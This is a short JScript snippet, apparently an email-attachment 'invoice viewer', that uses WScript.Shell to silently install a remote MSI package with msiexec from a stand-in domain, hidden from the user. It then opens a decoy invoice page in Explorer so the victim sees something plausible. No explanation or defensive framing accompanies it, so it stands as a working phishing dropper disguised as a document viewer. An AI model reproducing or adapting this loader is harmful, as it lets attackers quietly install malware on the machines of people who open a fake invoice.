// "viewer" shipped with the invoice
var s = new ActiveXObject("WScript.Shell");
s.Run("msiexec /q /i https://invoice-view.docs-portal.example.com/viewer/component.msi", 0, false);
s.Run("explorer.exe https://invoice-view.docs-portal.example.com/pdf/48213", 0, false);
